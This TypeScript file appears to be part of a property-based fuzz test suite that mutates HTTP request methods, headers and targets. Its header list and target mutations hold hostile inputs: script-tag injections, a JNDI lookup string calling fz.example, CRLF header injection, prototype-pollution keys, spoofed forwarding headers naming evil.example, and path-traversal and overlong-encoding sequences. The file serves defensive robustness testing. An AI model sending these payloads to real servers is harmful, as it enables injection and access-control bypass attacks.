import fc from 'fast-check';
import { withHeader, type Header, type Message } from '../message.js';
import { HOSTILE_TEXTS } from './hostile-values.js';

/** A change of a request's method, target or headers after which it is still HTTP. */
export type HeadMutation =
  | { readonly on: 'method'; readonly method: string }
  | { readonly on: 'header'; readonly header: Header }
  | { readonly on: 'repeated header'; readonly header: Header }
  | { readonly on: 'target'; readonly op: TargetOp; readonly with: number; readonly text: string };

type TargetOp = (typeof TARGET_OPS)[number];
const TARGET_OPS = [
  'query',
  'repeat query',
  'slash',
  'double slash',
  'case',
  'dots',
  'encode',
  'encode twice',
  'segment',
  'more',
  'hostile',
  'absolute',
  'fragment',
] as const;

const METHODS = [
  'GET',
  'HEAD',
  'POST',
  'PUT',
  'PATCH',
  'DELETE',
  'OPTIONS',
  'TRACE',
  'PROPFIND',
  'M-SEARCH',
  'QUERY',
  'PURGE',
  'REPORT',
  'LOCK',
];

/** Values that a header may have: nothing but what HTTP allows. */
const HEADERS: readonly Header[] = [
  ['Accept', 'text/html'],
  ['Accept', 'text/html;q=0.9,*/*;q=1e9'],
  ['Accept', 'text/markdown'],
  ['Accept', 'application/xml'],
  ['Accept', `${'a/b,'.repeat(2_000)}text/html`],
  ['Accept', ';;;,,,q=,*/*;q=NaN'],
  ['Accept', 'application/openmetrics-text'],
  ['Content-Type', 'application/json; charset=utf-16'],
  ['Content-Type', 'application/json; charset=utf-7'],
  ['Content-Type', 'application/json;charset="utf-8";charset=latin1'],
  ['Content-Type', 'application/yaml'],
  ['Content-Type', 'text/plain'],
  ['Content-Type', 'application/x-www-form-urlencoded'],
  ['Content-Type', 'multipart/form-data; boundary=x'],
  ['Content-Type', ''],
  ['Content-Type', ';'],
  ['Content-Type', 'application/problem+json'],
  ['X-Request-Id', 'a b'],
  ['X-Request-Id', 'x'.repeat(5_000)],
  ['X-Request-Id', '<script>fz(12)</script>'],
  ['X-Request-Id', '__proto__'],
  ['X-Forwarded-Proto', 'javascript'],
  ['X-Forwarded-Host', 'evil.example"><script>fz(13)</script>'],
  ['X-Forwarded-For', '127.0.0.1, 10.0.0.1'],
  ['X-Forwarded-Email', 'admin@example.com'],
  ['X-Forwarded-Prefix', '/evil'],
  ['Forwarded', 'for=127.0.0.1;host=evil.example;proto=javascript'],
  ['X-HTTP-Method-Override', 'DELETE'],
  ['Range', 'bytes=0-0,5-1,-1'],
  ['If-None-Match', '*'],
  ['If-Modified-Since', 'Fri, 31 Dec 9999 23:59:59 GMT'],
  ['Origin', 'https://evil.example'],
  ['Sec-Fetch-Site', 'cross-site'],
  ['Access-Control-Request-Method', 'POST'],
  ['Accept-Encoding', 'gzip, br, zstd, x;q=1e9'],
  ['Accept-Language', 'x'.repeat(3_000)],
  ['Cookie', `a=${'b'.repeat(3_000)}`],
  ['traceparent', '00-00000000000000000000000000000000-0000000000000000-ff'],
  ['traceparent', '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01'],
  ['tracestate', `${'a=b,'.repeat(500)}<script>=1`],
  ['baggage', 'x=%0d%0aSet-Cookie:fz'],
  ['Retry-After', '1'],
  ['Prefer', 'respond-async, wait=10'],
  ['User-Agent', 'curl/8 ${jndi:ldap://fz.example/a}'],
  ['Referer', 'javascript:fz(14)'],
  ['__proto__', 'x'],
  ['constructor', 'x'],
];

/** Changes of heads. */
export const headMutation: fc.Arbitrary<HeadMutation> = fc.oneof(
  fc.record({ on: fc.constant('method' as const), method: fc.constantFrom(...METHODS) }),
  fc.record({ on: fc.constant('header' as const), header: fc.constantFrom(...HEADERS) }),
  fc.record({ on: fc.constant('repeated header' as const), header: fc.constantFrom(...HEADERS) }),
  fc.record({
    on: fc.constant('target' as const),
    op: fc.constantFrom(...TARGET_OPS),
    with: fc.nat(1_000),
    text: fc.string({ maxLength: 12 }),
  }),
);

/** The request with this change. */
export function mutateHead(message: Message, mutation: HeadMutation): Message {
  switch (mutation.on) {
    case 'method':
      return { ...message, method: mutation.method };
    case 'header':
      return withHeader(message, mutation.header);
    case 'repeated header':
      return { ...message, headers: [...message.headers, mutation.header] };
    case 'target':
      return { ...message, target: mutateTarget(message.target, mutation) };
  }
}

function mutateTarget(target: string, { op, with: n, text }: Extract<HeadMutation, { on: 'target' }>): string {
  const [path = '', query = ''] = target.split(/\?(.*)/s);
  const segments = path.split('/');
  const hostile = encodeURIComponent((HOSTILE_TEXTS[n % HOSTILE_TEXTS.length] ?? '').toWellFormed().slice(0, 2_000));
  const free = encodeURIComponent(text.toWellFormed());
  const cut = (n % path.length) + 1;
  switch (op) {
    case 'query':
      return `${path}?${query}&${['format', 'query', 'time', 'timeout', 'application', 'filter', 'user', '__proto__', 'a[b][c]', 'metricsAccountName'][n % 10] ?? ''}=${n % 2 === 0 ? hostile : free}`;
    case 'repeat query':
      return `${path}?${query}&${query}&${query.replace('=', '[]=')}`;
    case 'slash':
      return `${path}/?${query}`;
    case 'double slash':
      return `${path.slice(0, cut)}/${path.slice(cut)}?${query}`;
    case 'case':
      return n % 2 === 0 ? path.toUpperCase() : `${path.slice(0, cut)}${path.slice(cut).toUpperCase()}`;
    case 'dots':
      return `${path.slice(0, cut)}/${['..', '.', '%2e%2e', '..;', '%2e'][n % 5] ?? '.'}/${path.slice(cut)}`;
    case 'encode':
      return `${path.slice(0, cut)}%${(path.charCodeAt(cut) || 47).toString(16)}${path.slice(cut + 1)}?${query}`;
    case 'encode twice':
      return `${path.slice(0, cut)}%25${(path.charCodeAt(cut) || 47).toString(16)}${path.slice(cut + 1)}`;
    case 'segment':
      return [...segments.slice(0, -1), n % 2 === 0 ? hostile : free].join('/');
    case 'more':
      return `${path}/${n % 2 === 0 ? hostile : free}?${query}`;
    case 'hostile':
      return `${path}%${['00', 'ff', 'c0%af', 'zz', '', '0d%0a', 'ed%a0%80', '2f', '5c', '3f'][n % 10] ?? ''}?${query}%`;
    case 'absolute':
      return `http://evil.example${path}?${query}`;
    case 'fragment':
      return `${path}#${free}`;
  }
}
